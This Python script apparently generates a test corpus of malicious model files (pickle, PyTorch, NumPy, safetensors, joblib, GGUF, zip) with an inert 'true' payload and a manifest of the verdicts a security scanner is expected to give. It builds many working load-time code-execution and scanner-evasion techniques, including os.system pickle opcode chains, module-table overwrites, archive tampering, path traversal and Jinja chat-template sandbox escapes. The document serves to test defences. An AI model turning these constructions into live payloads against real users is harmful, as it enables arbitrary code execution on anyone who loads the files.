#!/usr/bin/env python3
"""Writes harmful model files with a harmless payload, and manifest.tsv beside them.

    make_malicious.py OUT               writes the files
    make_malicious.py --compare FOLDER  tells whether they are still what this script writes

Every payload is the command `true` or something as inert. Nothing here is ever loaded, by this script or by a test: the
pickles are assembled opcode by opcode. Standard library only; the same bytes on every run. Columns of the manifest: path,
format, technique, and what a scan must say at least (malicious, suspicious, inconclusive).
"""
import base64
import bz2
import io
import lzma
import pathlib
import struct
import sys
import tarfile
import zipfile
import zlib

COMMAND = "true"
EPOCH = (1980, 1, 1, 0, 0, 0)


# Pickle assembly -----------------------------------------------------------------------------------------------------
def text(value):
    """A string operand as protocol 1 and later write it."""
    data = value.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(data)) + data


def short_text(value):
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def name_of(module, name):
    return f"c{module}\n{name}\n".encode()


def stack_name(module, name):
    return short_text(module) + short_text(name) + b"\x93"


def call(function, *arguments):
    return function + b"(" + b"".join(arguments) + b"tR"


def pickled(body, protocol=2):
    head = bytes([0x80, protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        head += b"\x95" + struct.pack("<Q", len(body) + 1)
    return head + body + b"."


def shell(protocol=2):
    return pickled(call(name_of("os", "system"), text(COMMAND)), protocol)


SHELL = shell()
BENIGN = pickled(b"}" + b"(" + text("weight") + b"]" + text("bias") + b"Nu")


# Containers ----------------------------------------------------------------------------------------------------------
def zipped(members, method=zipfile.ZIP_STORED, comment=b""):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        archive.comment = comment
        for name, data in members:
            entry = zipfile.ZipInfo(name, EPOCH)
            entry.compress_type = method
            archive.writestr(entry, data)
    return stream.getvalue()


def checkpoint(pickle_bytes, *more, root="archive", method=zipfile.ZIP_STORED):
    members = [(f"{root}/data.pkl", pickle_bytes), (f"{root}/byteorder", b"little"), (f"{root}/data/0", b"\0" * 16),
               (f"{root}/version", b"3\n")]
    return zipped(members + list(more), method)


def npy(descr, shape, body, version=(1, 0)):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    length_format = "<H" if version == (1, 0) else "<I"
    used = 8 + struct.calcsize(length_format) + len(header) + 1
    header += b" " * (-used % 64) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(length_format, len(header)) + header + body


def safetensors(header, body=b"\0" * 16):
    data = header.encode()
    return struct.pack("<Q", len(data)) + data + body


TENSOR = '{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'


def gguf_text(value):
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def gguf(pairs, version=3, tail=b"", big_endian=False, tensors=0):
    order = ">" if big_endian else "<"
    length = order + ("I" if version == 1 else "Q")

    def string(value):
        data = value.encode()
        return struct.pack(length, len(data)) + data
    out = b"GGUF" + struct.pack(order + "I", version) + struct.pack(length, tensors) + struct.pack(length, len(pairs))
    for key, value in pairs:
        out += string(key)
        if isinstance(value, list):
            out += struct.pack(order + "II", 9, 8) + struct.pack(length, len(value)) + b"".join(string(item) for item in value)
        else:
            out += struct.pack(order + "I", 8) + string(value)
    return out + b"\0" * (-len(out) % 32) + tail


# The samples: (path, format, technique, expectation, bytes) ----------------------------------------------------------
def plain_pickles():
    for protocol in range(6):
        yield f"pickle/os_system_p{protocol}.pkl", "pickle", "GLOBAL and REDUCE", "malicious", shell(protocol)
    yield "pickle/inst.pkl", "pickle", "INST", "malicious", b"(" + text(COMMAND) + b"ios\nsystem\n."
    yield "pickle/obj.pkl", "pickle", "OBJ", "malicious", b"(" + name_of("posix", "system") + text(COMMAND) + b"o."
    yield ("pickle/newobj_popen.pkl", "pickle", "NEWOBJ with a process class", "malicious",
           pickled(name_of("subprocess", "Popen") + text(COMMAND) + b"\x85\x81"))
    yield "pickle/stack_global.pkl", "pickle", "STACK_GLOBAL", "malicious", pickled(stack_name("builtins", "exec") + short_text("0") + b"\x85R", 4)
    yield ("pickle/memo_names.pkl", "pickle", "names by way of the memo", "malicious",
           pickled(short_text("posix") + b"\x940" + short_text("system") + b"\x940" + b"h\x00h\x01\x93" + short_text(COMMAND) + b"\x85R", 4))
    yield ("pickle/joined_name.pkl", "pickle", "name joined at load time", "malicious",
           pickled(short_text("os") + stack_name("builtins", "str.join") + b"(" + short_text("") + b"](" + short_text("sys") + short_text("tem")
                   + b"etR\x93" + short_text(COMMAND) + b"\x85R", 4))
    yield ("pickle/build_setstate.pkl", "pickle", "BUILD reaches a planted __setstate__", "malicious",
           pickled(name_of("types", "SimpleNamespace") + b")\x81}" + text("__setstate__") + name_of("os", "system") + b"sb" + text(COMMAND) + b"b"))
    yield ("pickle/removed_result.pkl", "pickle", "call whose result is thrown away", "malicious",
           pickled(call(name_of("os", "system"), text(COMMAND)) + b"0" + b"}"))
    yield ("pickle/after_benign.pkl", "pickle", "at the end of a large dictionary", "malicious",
           pickled(b"}(" + b"".join(text(f"layer.{i}.weight") + b"K\x01" for i in range(400)) + text("last")
                   + call(name_of("os", "system"), text(COMMAND)) + b"u"))
    yield ("pickle/missing_stop.pkl", "pickle", "broken after the call", "malicious", SHELL[:-1] + b"\xff\xff\xff")
    yield ("pickle/cut_before_call.pkl", "pickle", "cut off inside an operand", "inconclusive", pickled(b"}" + text("weights") + b"]s")[:-6])


def evasive_pickles():
    grafted = (b"c" + b"collections\n_sys.modules.get\n" + text("os") + b"\x85R")
    yield ("pickle/private_alias.pkl", "pickle", "module reached through another one's private import", "malicious",
           pickled(grafted, 4))
    yield ("pickle/modules_write.pkl", "pickle", "module table overwritten", "malicious",
           pickled(name_of("sys", "modules") + text("torch.nn") + call(name_of("importlib", "import_module"), text("os")) + b"s0"
                   + call(name_of("torch.nn", "system"), text(COMMAND))))
    yield ("pickle/getattr_chain.pkl", "pickle", "attribute by name", "malicious",
           pickled(call(call(name_of("__builtin__", "getattr"), call(name_of("__builtin__", "__import__"), text("os")), text("system")), text(COMMAND))))
    yield ("pickle/dotted_globals.pkl", "pickle", "dotted walk to a namespace", "malicious",
           pickled(stack_name("collections", "namedtuple.__globals__"), 4))
    yield ("pickle/patch_function.pkl", "pickle", "BUILD on a function", "malicious",
           pickled(name_of("torch", "manual_seed") + b"N}" + text("a") + name_of("os", "path") + b"s\x86b"))
    yield "pickle/python2_name.pkl", "pickle", "Python 2 module name", "malicious", pickled(call(name_of("commands", "getoutput"), text(COMMAND)))
    yield ("pickle/resolver.pkl", "pickle", "framework function that imports", "malicious",
           pickled(call(call(name_of("torch._utils", "_import_dotted_name"), text("os.system")), text(COMMAND))))
    yield ("pickle/ufunc_rebuild.pkl", "pickle", "array library function that imports", "malicious",
           pickled(call(call(name_of("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")), text(COMMAND))))
    yield ("pickle/load_library.pkl", "pickle", "native library", "malicious",
           pickled(call(name_of("torch.ops", "load_library"), text("/nowhere/a.so")), 4))
    yield ("pickle/array_to_file.pkl", "pickle", "writes a file", "malicious",
           pickled(stack_name("numpy", "ndarray.tofile") + stack_name("numpy", "zeros") + b"K\x01\x85R" + short_text("/nowhere/a") + b"\x86R", 4))
    yield ("pickle/partial.pkl", "pickle", "partial application", "malicious",
           pickled(call(name_of("functools", "partial"), name_of("os", "system"), text(COMMAND)) + b")R"))
    yield ("pickle/map_exec.pkl", "pickle", "iterator that calls", "malicious",
           pickled(call(name_of("builtins", "list"), call(name_of("builtins", "map"), name_of("builtins", "eval"), b"](" + text("0") + b"e")), 3))
    yield ("pickle/base_zero_integer.pkl", "pickle", "integer that only loaders accept", "malicious", b"I0x1\n0" + shell(0))
    yield ("pickle/looks_like_zlib.model", "pickle", "first bytes of another format", "malicious",
           b"(S'" + b"x'\n0(" + text(COMMAND) + b"ios\nsystem\n.")
    yield ("pickle/extension.txt", "pickle", "unexpected extension", "malicious", shell(0))
    yield ("pickle/no_extension", "pickle", "no extension", "malicious", shell(4))
    yield ("pickle/leading_bytes.pkl", "pickle", "bytes before the stream", "suspicious", b"\xff\xff" + SHELL)
    yield ("pickle/second_stream.pkl", "pickle", "stream after the first STOP", "malicious", BENIGN + SHELL)
    yield ("pickle/second_stream_gap.pkl", "pickle", "stream after zeros", "malicious", BENIGN + b"\0" * 37 + SHELL)
    yield ("pickle/nested_zlib.pkl", "pickle", "compressed pickle handed to a loader", "malicious",
           pickled(call(name_of("pickle", "loads"), call(name_of("zlib", "decompress"), bytes_operand(zlib.compress(SHELL)))), 3))
    yield ("pickle/nested_base64.pkl", "pickle", "encoded pickle as a literal", "suspicious",
           pickled(b"}" + text("cache") + text(base64.b64encode(zlib.compress(SHELL)).decode()) + b"s"))
    yield ("pickle/code_object.pkl", "pickle", "function from bytecode", "malicious",
           pickled(call(name_of("types", "FunctionType"), call(name_of("marshal", "loads"), bytes_operand(b"\xe3" + b"\0" * 20)), b"}"), 3))
    yield ("pickle/extension_registry.pkl", "pickle", "extension code registered, then used", "malicious",
           pickled(call(name_of("copyreg", "add_extension"), text("os"), text("system"), b"K\x05") + b"0\x82\x05" + text(COMMAND) + b"\x85R"))
    yield ("pickle/persistent_id.pkl", "pickle", "persistent id outside a container", "suspicious", pickled(text("key") + b"Q"))
    yield ("pickle/distribution_template.pkl", "pickle", "source text in the state of a distribution", "suspicious",
           pickled(name_of("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" + text("_parse_arg_template") + text("import os\nos.system('true')")
                   + b"sb"))
    yield ("pickle/expansion.pkl", "pickle", "small file, huge object", "suspicious",
           pickled(b"]" + b"q\x00" + b"".join(b"0](h" + bytes([i]) + b"h" + bytes([i]) + b"eq" + bytes([i + 1]) for i in range(60))))
    yield "pickle/memory_request.pkl", "pickle", "asks for a terabyte", "suspicious", pickled(call(name_of("builtins", "bytearray"), b"\x8a\x06" + (2**40).to_bytes(6, "little")))


def bytes_operand(data):
    return b"B" + struct.pack("<I", len(data)) + data


def compressed():
    yield "joblib/zlib.joblib", "joblib", "zlib", "malicious", zlib.compress(SHELL)
    halves = len(SHELL) // 2
    yield ("joblib/two_members.joblib", "joblib", "payload cut between bz2 members", "malicious",
           bz2.compress(SHELL[:halves]) + bz2.compress(SHELL[halves:]))
    yield "joblib/xz.pkl", "joblib", "xz", "malicious", lzma.compress(SHELL)
    wrapper = (name_of("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("subclass") + name_of("numpy", "ndarray") + text("shape")
               + b"K\x02\x85" + text("order") + text("C") + text("dtype") + call(name_of("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
               + b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb" + text("allow_mmap") + b"\x88ub")
    yield ("joblib/after_array.joblib", "joblib", "call behind raw array bytes", "malicious",
           b"\x80\x03](" + wrapper + b"\0" * 16 + call(name_of("os", "system"), text(COMMAND)) + b"e.")


def torch_files():
    yield "pytorch/data_pkl.pt", "pytorch-zip", "in data.pkl", "malicious", checkpoint(SHELL)
    yield "pytorch/deflated.pth", "pytorch-zip", "deflated data.pkl", "malicious", checkpoint(SHELL, method=zipfile.ZIP_DEFLATED)
    yield "pytorch/extra_member.pt", "pytorch-zip", "pickle under a harmless name", "malicious", checkpoint(BENIGN, ("archive/extra/notes.txt", SHELL))
    yield "pytorch/storage_is_pickle.pt", "pytorch-zip", "pickle as a storage", "malicious", checkpoint(BENIGN, ("archive/data/1", SHELL))
    yield ("pytorch/two_roots.pt", "pytorch-zip", "second data.pkl", "malicious", checkpoint(BENIGN, ("other/data.pkl", SHELL)))
    good = checkpoint(SHELL)
    yield "pytorch/wrong_crc.pt", "pytorch-zip", "checksum does not match", "malicious", change_crc(good)
    yield "pytorch/encrypted_flag.pt", "pytorch-zip", "encryption bit without encryption", "malicious", set_flags(good, 1)
    yield "pytorch/local_name.pt", "pytorch-zip", "local name differs", "malicious", rename_local(good)
    yield "pytorch/second_directory.pt", "pytorch-zip", "two central directories", "malicious", checkpoint(SHELL) + checkpoint(BENIGN)
    yield "pytorch/prefix.pt", "pytorch-zip", "archive behind other bytes", "malicious", BENIGN + checkpoint(SHELL)
    magic = pickled(b"\x8a\x0a" + bytes.fromhex("6cfc9c46f9206aa85019"))
    head = magic + pickled(b"M\xe9\x03") + pickled(b"}(" + text("little_endian") + b"\x88u")
    yield "pytorch/legacy.pt", "pytorch-legacy", "fourth stream", "malicious", head + SHELL + pickled(b"]")
    yield "pytorch/legacy_tail.bin", "pytorch-legacy", "stream after the storages", "malicious", head + BENIGN + pickled(b"]") + SHELL
    yield "pytorch/legacy_tar.pt", "pytorch-tar", "old tar container", "malicious", tar_checkpoint()
    yield "pytorch/traversal.zip", "zip", "member leaves the folder", "malicious", zipped([("../../outside.bin", b"x"), ("a/data.pkl", BENIGN)])
    yield "pytorch/duplicate.pt", "pytorch-zip", "two members of one name", "malicious", duplicate_member()


def tar_checkpoint():
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in (("sys_info", BENIGN), ("storages", pickled(b"K\x00")), ("tensors", pickled(b"K\x00")), ("pickle", SHELL)):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return stream.getvalue()


def duplicate_member():
    first, second = ("archive/data.pkl", SHELL), ("archive/data.pkX", BENIGN)
    return zipped([first, second]).replace(b"archive/data.pkX", b"archive/data.pkl")


def change_crc(data):
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 14), (b"PK\x01\x02", 16)):
        at = data.find(signature)
        out[at + offset:at + offset + 4] = b"\xde\xad\xbe\xef"
    return bytes(out)


def set_flags(data, flags):
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        out[at + offset] |= flags
    return bytes(out)


def rename_local(data):
    at = data.find(b"archive/data.pkl")
    return data[:at] + b"archive/data.txt" + data[at + 16:]


def numpy_files():
    yield "numpy/object.npy", "npy", "object array", "malicious", npy("'|O'", "(1,)", SHELL)
    yield "numpy/object_v3.npy", "npy", "object array, header 3.0", "malicious", npy("'|O'", "(1,)", SHELL, (3, 0))
    yield "numpy/object_field.npy", "npy", "object in a field", "malicious", npy("[('a', '<i4'), ('b', '|O')]", "(1,)", SHELL)
    yield "numpy/trailing.npy", "npy", "pickle behind the array", "malicious", npy("'<f8'", "(2,)", b"\0" * 16 + SHELL)
    yield "numpy/is_pickle.npy", "pickle", "pickle named npy", "malicious", SHELL
    yield "numpy/header_call.npy", "npy", "call in the header", "suspicious", npy("__import__('os').system('true')", "(2,)", b"\0" * 16)
    yield "numpy/short.npy", "npy", "fewer bytes than declared", "inconclusive", npy("'<f8'", "(200,)", b"\0" * 16)
    yield "numpy/object_member.npz", "npz", "object array in an archive", "malicious", zipped([("a.npy", npy("'|O'", "(1,)", SHELL))])
    yield ("numpy/odd_member.npz", "npz", "object array under another name", "malicious",
           zipped([("a.npy", npy("'<f8'", "(1,)", b"\0" * 8)), ("notes.txt", npy("'|O'", "(1,)", SHELL))]))


def tensor_files():
    yield "safetensors/trailing_pickle.safetensors", "safetensors", "pickle behind the tensors", "malicious", safetensors(TENSOR) + SHELL
    yield ("safetensors/trailing_zip.safetensors", "safetensors", "archive behind the tensors", "malicious", safetensors(TENSOR) + checkpoint(SHELL))
    yield ("safetensors/overlap.safetensors", "safetensors", "tensors share bytes", "malicious",
           safetensors('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'))
    yield ("safetensors/duplicate_key.safetensors", "safetensors", "tensor named twice", "malicious",
           safetensors('{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'))
    yield ("safetensors/beyond_end.safetensors", "safetensors", "offsets past the end", "suspicious",
           safetensors('{"w":{"dtype":"F32","shape":[400],"data_offsets":[0,1600]}}'))
    yield "safetensors/huge_header.safetensors", "safetensors", "header longer than the file", "inconclusive", struct.pack("<Q", 2**40) + b"{}"
    yield ("safetensors/pickle_in_disguise.safetensors", "pickle", "pickle named safetensors", "malicious", SHELL)


TEMPLATES = {
    "class_walk": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "malicious"),
    "joined_key": ("{% set u = ['_', '_', 'class', '_', '_'] | join %}{{ ''[u] }}", "malicious"),
    "attr_filter": ("{{ messages | attr('__' ~ 'init__') | attr('__globals__') }}", "malicious"),
    "escaped_key": ("{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}", "malicious"),
    "map_attribute": ("{{ [''] | map(attribute='_' + '_class_' + '_') | list }}", "malicious"),
    "global_object": ("{{ cycler.__init__.__globals__.os.popen('true').read() }}", "malicious"),
    "include": ("{% include '/etc/hostname' %}{{ messages[0]['content'] }}", "malicious"),
    "endless": ("{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}", "suspicious"),
}


def gguf_files():
    for name, (template, expected) in TEMPLATES.items():
        yield (f"gguf/{name}.gguf", "gguf", "chat template: " + name.replace("_", " "), expected,
               gguf([("general.architecture", "llama"), ("tokenizer.chat_template", template)]))
    walk = TEMPLATES["class_walk"][0]
    yield "gguf/second_template.gguf", "gguf", "template under a longer key", "malicious", gguf([("tokenizer.chat_template.tool_use", walk)])
    yield "gguf/version_1.gguf", "gguf", "template in version 1", "malicious", gguf([("tokenizer.chat_template", walk)], version=1)
    yield "gguf/big_endian.gguf", "gguf", "template in a big-endian file", "malicious", gguf([("tokenizer.chat_template", walk)], big_endian=True)
    yield "gguf/trailing_pickle.gguf", "gguf", "pickle behind the tensors", "malicious", gguf([("general.architecture", "llama")], tail=SHELL)
    yield "gguf/key_count.gguf", "gguf", "more keys than bytes", "inconclusive", b"GGUF" + struct.pack("<IQQ", 3, 0, 2**62) + b"\0" * 40
    yield "gguf/cut.gguf", "gguf", "cut off in a string", "inconclusive", gguf([("general.name", "a" * 50)])[:60]


def archives():
    yield "zip/pickle_member.zip", "zip", "pickle in an archive", "malicious", zipped([("model/weights.pkl", SHELL)], zipfile.ZIP_DEFLATED)
    yield "zip/nested.zip", "zip", "archive in an archive", "malicious", zipped([("inner.zip", zipped([("a.pkl", SHELL)]))], zipfile.ZIP_DEFLATED)
    yield "zip/no_directory.zip", "zip", "central directory cut off", "malicious", zipped([("a.pkl", SHELL)])[:-60]
    yield "zip/comment.zip", "zip", "pickle in the comment", "suspicious", zipped([("a.txt", b"hello")], comment=SHELL)


GROUPS = (plain_pickles, evasive_pickles, compressed, torch_files, numpy_files, tensor_files, gguf_files, archives)


def files():
    """(path, bytes) of every sample and of the manifest."""
    lines = ["path\tformat\ttechnique\texpect"]
    for group in GROUPS:
        for path, kind, technique, expected, data in group():
            yield path, data
            lines.append("\t".join((path, kind, technique, expected)))
    yield "manifest.tsv", ("\n".join(lines) + "\n").encode()


def main():
    compare = len(sys.argv) == 3 and sys.argv[1] == "--compare"
    if len(sys.argv) != 2 and not compare:
        print("usage: make_malicious.py OUT | make_malicious.py --compare FOLDER", file=sys.stderr)
        return 2
    root, different = pathlib.Path(sys.argv[-1]), []
    for path, data in files():
        target = root / path
        if compare:
            if not target.is_file() or target.read_bytes() != data:
                different.append(path)
            continue
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    print("differs: " + ", ".join(different) if different else f"{len(list(files()))} files in {root}")
    return 1 if different else 0


if __name__ == "__main__":
    sys.exit(main())
